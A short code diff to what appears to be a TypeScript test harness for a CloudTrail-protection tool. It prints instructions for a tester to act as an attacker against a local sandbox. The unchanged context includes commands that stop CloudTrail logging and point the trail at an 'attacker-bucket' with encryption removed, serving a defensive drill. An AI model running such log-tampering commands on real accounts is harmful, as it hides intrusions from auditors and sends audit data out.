@@ -49,7 +49,7 @@ function wholeNumber(text: string): number {
 }
 
 function invitation(
-  { endpoint, account, region, trail, table }: Sandbox,
+  { endpoint, account, region, trail, table, outputs }: Sandbox,
   { mode, sweepEvery }: Pick<Options, 'mode' | 'sweepEvery'>,
 ): string {
   return `
@@ -61,6 +61,8 @@ In another shell, be somebody with rights in account ${account}:
   export AWS_ENDPOINT_URL=${endpoint} AWS_REGION=${region} AWS_DEFAULT_REGION=${region}
   export AWS_ACCESS_KEY_ID=mallory AWS_SECRET_ACCESS_KEY=any
   export TRAILKEEPER_TABLE=${table}
+  export TRAILKEEPER_DEAD_LETTERS=${outputs.DeadLetterQueueUrl}
+  export TRAILKEEPER_FUNCTIONS=${outputs.FunctionNames}
 
   aws cloudtrail stop-logging --name org-trail
   aws cloudtrail update-trail --name org-trail --s3-bucket-name attacker-bucket --kms-key-id ""
